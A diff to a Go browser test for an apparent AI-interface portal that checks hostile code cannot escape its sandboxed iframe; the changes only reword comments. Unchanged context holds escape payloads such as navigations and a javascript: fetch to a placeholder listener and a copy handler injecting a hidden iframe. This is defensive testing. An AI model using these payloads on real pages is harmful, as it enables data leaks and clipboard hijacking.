@@ -28,8 +28,7 @@ import (
 	"github.com/copilot-portal/portal/server/portaltest"
 )
 
-// evil is code that no check has seen: each part tries what it must not be able to do, and notes what came of it. ADDRESS is somebody
-// who must hear nothing.
+// evil is unchecked code. Each part attempts something forbidden and records the result. ADDRESS is a listener that must not be reached.
 const evil = `(() => {
   const tried = globalThis.tried = {};
   const attempt = (name, act) => {
@@ -122,7 +121,7 @@ const evil = `(() => {
   globalThis.App = () => null;
 })();`
 
-// leaving are ways for the frame to go elsewhere, each of which is tried in a frame of its own.
+// leaving are ways to navigate the frame, each tried in a new frame.
 var leaving = map[string]string{
 	"location": `location.href = "http://ADDRESS/leave"`,
 	"replace":  `location.replace("http://ADDRESS/leave")`,
@@ -135,25 +134,25 @@ var leaving = map[string]string{
 	"scheme":   `location.href = "javascript:fetch('http://ADDRESS/leave')"`,
 }
 
-// editable is code that lets the user edit the frame, and puts elements on the clipboard in place of what is copied.
+// editable is code that makes the frame editable, and puts elements on the clipboard.
 const editable = `(() => {
   globalThis.edited = [];
   document.body.style.minHeight = "300px";
   document.body.contentEditable = "true";
   document.addEventListener("copy", (e) => { e.clipboardData.setData("text/html", '<iframe hidden src="http://ADDRESS/paste"></iframe><i>x</i>'); e.preventDefault(); });
   for (const type of ["paste", "drop"]) addEventListener(type, () => edited.push(type));
-  document.addEventListener("beforecopy", (e) => e.preventDefault()); // there is something to copy, although nothing is selected
+  document.addEventListener("beforecopy", (e) => e.preventDefault()); // enables copying without a selection
   globalThis.ready = () => { document.body.focus(); getSelection().collapse(document.body, 0); return true; };
   globalThis.App = () => null;
 })();`
 
-// toFront puts the frame where the mouse is.
+// toFront moves the frame under the mouse.
 const toFront = `document.querySelector("iframe").style = "position: fixed; left: 0; top: 0; width: 500px; height: 500px; z-index: 999"`
 
-// begin opens a frame in a page of the portal as the page does, and gives it a script.
+// begin opens a frame as the page does, and runs a script in it.
 const begin = `new Promise((done) => {
   const version = document.querySelector("link[rel=modulepreload]").href.match(/v-[0-9a-f]{16}/)[0];
-  for (const before of document.querySelectorAll("iframe")) before.remove(); // what waits for that has its time now
+  for (const before of document.querySelectorAll("iframe")) before.remove(); // runs the handlers of its removal
   const frame = document.createElement("iframe");
   frame.sandbox = "allow-scripts";
   globalThis.heard ??= [];
@@ -166,7 +165,7 @@ const begin = `new Promise((done) => {
   document.body.append(frame);
 })`
 
-// hollow stands in for the frame's own script: it only runs what it is given.
+// hollow replaces the frame's own script: it only runs the given code.
 const hollow = `const policy = trustedTypes.createPolicy("portal", { createScriptURL: (url) => url });
 addEventListener("message", ({ data }) => {
 	if (data.type !== "show") return;
@@ -178,7 +177,7 @@ parent.postMessage({ type: "ready" }, "*");`
 
 var scriptOfFrame = regexp.MustCompile(`(?s)<script>.*</script>`)
 
-// byHeadersAlone takes the frame's own script away.
+// byHeadersAlone removes the frame's own script.
 func byHeadersAlone(r *http.Response) error {
 	document, err := io.ReadAll(r.Body)
 	if err != nil {
@@ -193,7 +192,7 @@ func byHeadersAlone(r *http.Response) error {
 	return nil
 }
 
-// byPolicyAndScript takes the headers away that only some browsers know.
+// byPolicyAndScript removes the headers that only some browsers support.
 func byPolicyAndScript(r *http.Response) error {
 	for _, name := range []string{"Connection-Allowlist", "Permissions-Policy", "X-DNS-Prefetch-Control"} {
 		r.Header.Del(name)
@@ -201,7 +200,7 @@ func byPolicyAndScript(r *http.Response) error {
 	return nil
 }
 
-// through serves a portal with another answer in place of the frame.
+// through is a proxy of a portal that changes the response for the frame.
 func through(t *testing.T, portal *portaltest.Portal, change func(*http.Response) error) string {
 	t.Helper()
 	target, err := url.Parse(portal.URL)
@@ -219,26 +218,26 @@ func through(t *testing.T, portal *portaltest.Portal, change func(*http.Response
 	return s.URL
 }
 
-// Each layer of the frame holds without the other.
+// Each layer of protection works without the other.
 func TestHostileCodeCannotLeaveItsFrame(t *testing.T) {
 	t.Parallel()
 	chromium, portal := portaltest.StartChromium(t), portaltest.Start(t, portaltest.Options{Args: []string{"--demo"}})
 	for name, frame := range map[string]struct {
 		url     string
-		refused []string // besides what the policy refuses
-		script  bool     // its own script is there
-		leaves  bool     // nothing keeps a navigation from connecting
+		refused []string // besides those refused by the policy
+		script  bool     // the frame has its own script
+		leaves  bool     // a navigation can connect
 	}{
-		"as it is": {portal.URL, slices.Concat(refusedByHeaders, refusedByScript), true, false},
-		"by its headers alone, in a browser that knows them": {through(t, portal, byHeadersAlone), refusedByHeaders, false, false},
-		"by policy and script, in a browser that does not":   {through(t, portal, byPolicyAndScript), refusedByScript, true, true},
+		"all layers":                             {portal.URL, slices.Concat(refusedByHeaders, refusedByScript), true, false},
+		"headers only":                           {through(t, portal, byHeadersAlone), refusedByHeaders, false, false},
+		"policy and script, without the headers": {through(t, portal, byPolicyAndScript), refusedByScript, true, true},
 	} {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
 			h := openHostile(t, chromium, frame.url)
 			h.run(evil)
 			tried := h.tried(frame.url)
-			require.Len(t, tried, 77, "all of it was tried: %v", tried)
+			require.Len(t, tried, 77, "every attempt was made: %v", tried)
 			for _, name := range slices.Concat(refusedByPolicy, frame.refused) {
 				assert.Contains(t, tried[name], "refused", name)
 			}
@@ -246,8 +245,8 @@ func TestHostileCodeCannotLeaveItsFrame(t *testing.T) {
 			pasted, dropped := h.edit(frame.url)
 			assert.Equal(t, frame.script, pasted == 0, "%d elements were pasted", pasted)
 			assert.Equal(t, frame.script, dropped == 0, "%d elements were dropped", dropped)
-			h.run("globalThis.App = () => null") // what waited for the end of the frame has had its time
-			assert.Zero(t, h.came.Load(), "nobody has even connected: %v", tried)
+			h.run("globalThis.App = () => null") // handlers of the frame's removal have run
+			assert.Zero(t, h.came.Load(), "there was no connection: %v", tried)
 			for name, code := range leaving {
 				h.run(code)
 				assert.Zero(t, h.spoke.Load(), name)
@@ -258,8 +257,8 @@ func TestHostileCodeCannotLeaveItsFrame(t *testing.T) {
 			title, err := chromedp.Run(h.tab, chromedp.Evaluate[string](`document.title + " " + localStorage.length + " " + location.pathname`))
 			require.NoError(t, err)
 			assert.Contains(t, title, "Copilot Portal 0 /")
-			_ = chromedp.Do(h.tab, chromedp.Navigate("http://"+h.address+"/")) // which closes the connection
-			assert.NotZero(t, h.spoke.Load(), "who comes is counted")
+			_ = chromedp.Do(h.tab, chromedp.Navigate("http://"+h.address+"/")) // closes the connection
+			assert.NotZero(t, h.spoke.Load(), "connections are counted")
 		})
 	}
 }
@@ -270,7 +269,7 @@ var (
 	refusedByScript  = []string{"beacon", "battery", "peer", "later", "unsanitized", "built-in link", "built-in frame", "registry of the document", "registry of an element", "own registry", "document", "stylesheet", "what is there"}
 )
 
-// hostile is a tab in which frames get code that no check has seen, and somebody who must hear nothing of it.
+// hostile is a tab that runs unchecked code in frames, and a listener that must not be reached.
 type hostile struct {
 	*testing.T
 	tab         context.Context //nolint:containedctx // chromedp keeps the tab in it
@@ -283,7 +282,7 @@ func openHostile(t *testing.T, chromium *portaltest.Chromium, url string) *hosti
 	h := &hostile{T: t}
 	h.address, h.came, h.spoke = listener(t)
 	tab := chromium.OpenInProfile(t, "about:blank")
-	tab.IgnoreConsole() // it tells of all that is refused
+	tab.IgnoreConsole() // it reports every refusal
 	ctx, cancel := context.WithTimeout(tab.Context, 3*time.Minute)
 	t.Cleanup(cancel)
 	h.tab = ctx
@@ -291,7 +290,7 @@ func openHostile(t *testing.T, chromium *portaltest.Chromium, url string) *hosti
 	return h
 }
 
-// run gives code to a new frame.
+// run runs code in a new frame.
 func (h *hostile) run(code string) {
 	h.Helper()
 	raw, err := json.Marshal(strings.ReplaceAll(code, "ADDRESS", h.address))
@@ -301,7 +300,7 @@ func (h *hostile) run(code string) {
 	require.True(h, shown)
 }
 
-// tried reads what came of the attempts.
+// tried returns the results of the attempts.
 func (h *hostile) tried(portal string) map[string]string {
 	h.Helper()
 	tried, err := chromedp.Run(h.frame(portal), chromedp.Evaluate[map[string]string](`globalThis.tried ?? {}`))
@@ -309,7 +308,7 @@ func (h *hostile) tried(portal string) map[string]string {
 	return tried
 }
 
-// edit pastes and drops elements into the frame, as a user does, until it has had both, and tells how many it has of each.
+// edit pastes and drops elements into the frame until both events arrived, and counts the elements.
 func (h *hostile) edit(portal string) (pasted, dropped int) {
 	h.Helper()
 	frame := h.frame(portal)
@@ -333,7 +332,7 @@ func (h *hostile) edit(portal string) (pasted, dropped int) {
 	return made[0], made[1]
 }
 
-// edits is a key that edits while Ctrl is held down.
+// edits is an editing key, pressed with Ctrl.
 func edits(by string, key rune) chromedp.Action[chromedp.Void] {
 	upper := unicode.ToUpper(key)
 	return command(input.DispatchKeyEvent, input.DispatchKeyEventParams{
@@ -348,7 +347,7 @@ func command[P any](c cdp.Command[P, cdp.Empty], params P) chromedp.Action[chrom
 	})
 }
 
-// frame is the frame that is there now.
+// frame returns the current frame.
 func (h *hostile) frame(portal string) context.Context {
 	h.Helper()
 	all, err := chromedp.Targets(h.tab)
@@ -363,7 +362,7 @@ func (h *hostile) frame(portal string) context.Context {
 	return nil
 }
 
-// The model writes code that hangs: the page goes on, and says so.
+// The generated code hangs: the page stops it and reports that.
 func TestHangingInterfaceIsStopped(t *testing.T) {
 	t.Parallel()
 	chromium, portal := portaltest.StartChromium(t), portaltest.Start(t, portaltest.Options{Args: []string{"--demo"}})
